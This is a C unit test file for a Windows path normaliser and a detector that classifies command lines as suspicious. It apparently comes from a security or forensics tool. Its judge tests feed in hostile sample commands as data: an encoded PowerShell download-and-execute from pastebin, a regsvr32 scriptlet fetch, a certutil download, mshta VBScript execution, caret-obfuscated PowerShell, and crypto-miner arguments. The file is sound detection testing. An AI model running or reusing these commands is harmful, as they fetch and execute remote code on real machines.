/* test_winpath.c - Windows paths and command lines onto a tree (winpath.c), and the
 * Windows command judge (wincmd.c) */
#include <string.h>

#include "collect/win/winpath.h"
#include "t.h"

static const char *tree(const char *w, const char *profile)
{
	static char out[MT_MAX_PATH];
	mt_winenv env = {profile};
	if (mt_win_path_to_root(w, strlen(w), profile ? &env : NULL, out, sizeof(out)) != 0)
		return NULL;
	return out;
}

static void test_paths(void)
{
	TEST_START("path_to_root: drive, variables, NT prefixes, relative driver paths");
	ASSERT_STR_EQ(tree("C:\\Windows\\Fonts\\arial\\svchost.exe", NULL),
	              "/Windows/Fonts/arial/svchost.exe");
	ASSERT_STR_EQ(tree("c:/windows/temp/a.exe", NULL), "/windows/temp/a.exe");
	ASSERT_STR_EQ(tree("%SystemRoot%\\system32\\svchost.exe", NULL),
	              "/Windows/system32/svchost.exe");
	ASSERT_STR_EQ(tree("%windir%\\Temp\\x.sys", NULL), "/Windows/Temp/x.sys");
	ASSERT_STR_EQ(tree("%ProgramFiles(x86)%\\Google\\u.exe", NULL),
	              "/Program Files (x86)/Google/u.exe");
	ASSERT_STR_EQ(tree("\\SystemRoot\\System32\\drivers\\vmci.sys", NULL),
	              "/Windows/System32/drivers/vmci.sys");
	ASSERT_STR_EQ(tree("system32\\DRIVERS\\mrxsmb20.sys", NULL),
	              "/Windows/system32/DRIVERS/mrxsmb20.sys");
	ASSERT_STR_EQ(tree("\\??\\C:\\Windows\\Temp\\a8d3k2.sys", NULL),
	              "/Windows/Temp/a8d3k2.sys");
	ASSERT_STR_EQ(tree("\"C:\\Program Files\\VMware\\vmtoolsd.exe\"", NULL),
	              "/Program Files/VMware/vmtoolsd.exe");
	ASSERT_STR_EQ(tree("%APPDATA%\\wuauc1t.exe", "/Users/bob"),
	              "/Users/bob/AppData/Roaming/wuauc1t.exe");
	ASSERT_STR_EQ(tree("%TEMP%\\a.exe", NULL), "/Windows/Temp/a.exe");
	ASSERT_STR_EQ(tree("%temp%\\a.exe", "/Users/bob"), "/Users/bob/AppData/Local/Temp/a.exe");
	ASSERT_NULL(tree("%APPDATA%\\x.exe", NULL)); /* no profile */
	ASSERT_NULL(tree("D:\\tools\\x.exe", NULL)); /* another drive */
	ASSERT_NULL(tree("\\\\fileserver\\share\\x.exe", NULL));
	ASSERT_NULL(tree("svchost.exe", NULL)); /* a bare name */
	ASSERT_NULL(tree("%NOSUCHVAR%\\x.exe", NULL));
	ASSERT_NULL(tree("%unterminated\\x.exe", NULL));
	ASSERT_NULL(tree("", NULL));
	TEST_DONE();
}

static void test_program(void)
{
	TEST_START("cmd_program: quoted, unquoted with spaces, arguments");
	char p[256];
	size_t args;
	const char *c = "\"C:\\Program Files\\A B\\x.exe\" -k netsvcs";
	ASSERT_SIZE_EQ(mt_win_cmd_program(c, strlen(c), p, sizeof(p), &args), 26);
	ASSERT_STR_EQ(p, "C:\\Program Files\\A B\\x.exe");
	ASSERT_STR_EQ(c + args, "-k netsvcs");
	c = "C:\\Program Files\\VMware\\vmtoolsd.exe -n vmusr";
	mt_win_cmd_program(c, strlen(c), p, sizeof(p), &args);
	ASSERT_STR_EQ(p, "C:\\Program Files\\VMware\\vmtoolsd.exe");
	ASSERT_STR_EQ(c + args, "-n vmusr");
	c = "rundll32.exe C:\\ProgramData\\x.dll,Start";
	mt_win_cmd_program(c, strlen(c), p, sizeof(p), NULL);
	ASSERT_STR_EQ(p, "rundll32.exe");
	c = "cmd /c start x";
	mt_win_cmd_program(c, strlen(c), p, sizeof(p), NULL);
	ASSERT_STR_EQ(p, "cmd");
	ASSERT_SIZE_EQ(mt_win_cmd_program("   ", 3, p, sizeof(p), NULL), 0);
	c = "\"unterminated";
	mt_win_cmd_program(c, strlen(c), p, sizeof(p), NULL);
	ASSERT_STR_EQ(p, "unterminated");
	TEST_DONE();
}

static void test_places(void)
{
	TEST_START("drop_dir and system names");
	ASSERT_STR_EQ(mt_win_drop_dir("/Windows/Fonts/arial/x.exe"), "Fonts");
	ASSERT_STR_EQ(mt_win_drop_dir("/WINDOWS/FONTS/x.exe"), "Fonts");
	ASSERT_STR_EQ(mt_win_drop_dir("/Users/bob/AppData/Local/Temp/a.exe"), "Temp");
	ASSERT_STR_EQ(mt_win_drop_dir("/ProgramData/x.exe"), "ProgramData");
	ASSERT_STR_EQ(mt_win_drop_dir("/ProgramData/Dir/x.exe"), "ProgramData");
	ASSERT_NULL(
		mt_win_drop_dir("/ProgramData/Microsoft/Windows Defender/platform/MsMpEng.exe"));
	ASSERT_STR_EQ(mt_win_drop_dir("/Windows/servicecrsssr.vbs"), "Windows");
	ASSERT_NULL(mt_win_drop_dir("/Windows/explorer.exe"));
	ASSERT_NULL(mt_win_drop_dir("/Windows/System32/svchost.exe"));
	ASSERT_NULL(mt_win_drop_dir("/Program Files/App/app.exe"));
	ASSERT_NULL(mt_win_drop_dir("/Windows/Fontsx/a.exe"));
	const char *like;
	ASSERT_INT_EQ(mt_win_system_name("svchost.exe", &like), 1);
	ASSERT_INT_EQ(mt_win_system_name("SVCHOST.EXE", &like), 1);
	ASSERT_INT_EQ(mt_win_system_name("1sass.exe", &like), 0);
	ASSERT_STR_EQ(like, "lsass");
	ASSERT_INT_EQ(mt_win_system_name("wuauc1t.exe", &like), 0);
	ASSERT_STR_EQ(like, "wuauclt");
	ASSERT_INT_EQ(mt_win_system_name("scvhost.exe", &like), 0); /* transposed */
	ASSERT_STR_EQ(like, "svchost");
	ASSERT_INT_EQ(mt_win_system_name("svchosts.exe", &like), 0); /* inserted */
	ASSERT_STR_EQ(like, "svchost");
	ASSERT_INT_EQ(mt_win_system_name("vmtoolsd.exe", &like), 0);
	ASSERT_NULL(like);
	ASSERT_INT_EQ(mt_win_system_name("notepad++.exe", &like), 0);
	ASSERT_NULL(like);
	ASSERT_INT_EQ(mt_win_system_name("svchost.dll", &like), 0); /* only programs */
	ASSERT_NULL(like);
	TEST_DONE();
}

static int has(const mt_cmd_verdict *v, const char *code)
{
	for (unsigned i = 0; i < v->nreasons; i++)
		if (strcmp(v->reasons[i].code, code) == 0)
			return 1;
	return 0;
}

static void judge(const mt_rules *r, const char *cmd, mt_cmd_verdict *v)
{
	mt_judge_wincmd(r, cmd, strlen(cmd), v);
}

static void test_judge(void)
{
	mt_rules *r;
	REQUIRE_INT_EQ(mt_rules_new(&r), MT_OK);
	REQUIRE_INT_EQ(mt_rules_load_builtin(r, NULL, NULL), MT_OK);
	mt_cmd_verdict v;

	TEST_START("wincmd: encoded PowerShell decoded and judged");
	/* IEX (New-Object Net.WebClient).DownloadString('http://pastebin.com/raw/x') */
	judge(r,
	      "PowerShell.exe -NoP -W Hidden -EncodedCommand "
	      "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEA"
	      "G8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AcABhAHMAdABlAGIAaQBuAC4AYw"
	      "BvAG0ALwByAGEAdwAvAHgAJwApAA==",
	      &v);
	ASSERT_TRUE(has(&v, "encoded_ps"));
	ASSERT_TRUE(has(&v, "download_exec"));
	ASSERT_TRUE(has(&v, "paste_host"));
	ASSERT_INT_EQ(v.severity, MT_SEV_CRITICAL);
	judge(r, "powershell -ec SQBFAFgA", &v); /* -ec, a short one: decoded, nothing more */
	ASSERT_TRUE(has(&v, "encoded_ps"));
	ASSERT_FALSE(has(&v, "download_exec"));
	TEST_DONE();

	TEST_START("wincmd: LOLBins, drop places, miner options");
	judge(r, "regsvr32 /s /n /u /i:http://198.51.100.7/a.sct scrobj.dll", &v);
	ASSERT_TRUE(has(&v, "lolbin_exec"));
	judge(r, "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run ...\")", &v);
	ASSERT_TRUE(has(&v, "lolbin_exec"));
	judge(r, "mshta.exe C:\\Windows\\help\\x.hta", &v); /* local, in a drop place */
	ASSERT_FALSE(has(&v, "lolbin_exec"));
	ASSERT_TRUE(has(&v, "drop_exec"));
	judge(r, "certutil -urlcache -split -f http://198.51.100.7/a.exe C:\\Windows\\Temp\\a.exe",
	      &v);
	ASSERT_TRUE(has(&v, "download_exec"));
	judge(r, "C:\\Windows\\Fonts\\arial\\csrss.exe -o stratum+tcp://203.0.113.5:3333 -u 4Abc",
	      &v);
	ASSERT_TRUE(has(&v, "drop_exec"));
	ASSERT_TRUE(has(&v, "miner_args"));
	judge(r, "c:\\windows\\temp\\x.exe --donate-level=1", &v);
	ASSERT_TRUE(has(&v, "miner_args"));
	judge(r, "p^o^w^e^r^s^h^e^l^l -w hidden -c \"iex(iwr http://x.example/a)\"", &v);
	ASSERT_TRUE(has(&v, "ps_stealth"));
	ASSERT_TRUE(has(&v, "download_exec"));
	TEST_DONE();

	TEST_START("wincmd: benign command lines stay quiet");
	static const char *const benign[] = {
		"\"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe\" -n vmusr",
		"%windir%\\system32\\SecurityHealthSystray.exe",
		"%SystemRoot%\\system32\\svchost.exe -k netsvcs -p",
		"\"C:\\Users\\a\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background",
		"powershell.exe -NoProfile -File \"C:\\Program Files\\Contoso\\inventory.ps1\"",
		"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe /ua /installsource scheduler",
		"rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL",
		"cmd /c net use Z: \\\\fileserver\\share",
		"C:\\Program Files\\Internet Explorer\\iexplore.exe http://intranet/",
	};
	for (size_t i = 0; i < MT_ARRAY_LEN(benign); i++) {
		judge(r, benign[i], &v);
		if (v.severity > MT_SEV_LOW)
			fprintf(stderr, "benign: %s -> %s\n", benign[i],
			        v.nreasons ? v.reasons[0].code : "?");
		ASSERT_TRUE(v.severity <= MT_SEV_LOW);
	}
	TEST_DONE();

	TEST_START("wincmd: hostile input is bounded");
	char big[20000];
	memset(big, 'A', sizeof(big) - 1);
	big[sizeof(big) - 1] = '\0';
	memcpy(big, "powershell -e ", 14);
	judge(r, big, &v); /* 20 KB of base64 of nothing printable */
	memset(big, '^', sizeof(big) - 1);
	judge(r, big, &v);
	memset(big, '"', sizeof(big) - 1);
	judge(r, big, &v);
	judge(r, "", &v);
	ASSERT_INT_EQ(v.nreasons, 0);
	TEST_DONE();
	mt_rules_free(r);
}

int main(void)
{
	test_paths();
	test_program();
	test_places();
	test_judge();
	return T_DONE();
}
